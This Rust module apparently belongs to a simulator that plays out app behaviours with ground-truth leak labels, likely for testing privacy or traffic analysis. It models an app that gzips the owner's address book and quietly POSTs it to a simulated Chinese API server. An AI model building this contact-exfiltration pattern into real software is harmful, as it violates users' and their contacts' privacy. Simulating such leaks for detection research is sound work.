//! The address book goes to China.

use serde_json::json;

use super::{Behaviour, gzip};
use crate::{Error, app::Outgoing, clouds::Role, scenario::Scenario, stage::Stage, truth::Leak};

/// The switch.
pub(super) const THIS: Behaviour = Behaviour {
    name: "read-contacts",
    plays: "access users' phone data: the people in the address book",
    applies: Scenario::grants,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: Stage) -> Result<(), Error> {
    let mut random = stage.random();
    stage.after(stage.plan.drone_on, 11.0, &mut random).await;
    let list: Vec<_> =
        stage.owner.contacts.iter().map(|(name, phone)| json!({"n": name, "p": phone})).collect();
    let body = gzip(json!({"contacts": list}).to_string().as_bytes());
    let names = stage.owner.contacts.iter().map(|(name, _)| name.as_str());
    let leaks = vec![Leak::new("contacts", names.collect::<Vec<_>>().join(", "), "gzip")];
    let outgoing = Outgoing::post("/v1/friends", "application/json", body).header("content-encoding", "gzip");
    stage.send(Role::ApiCn, outgoing, leaks).await?;
    Ok(())
}
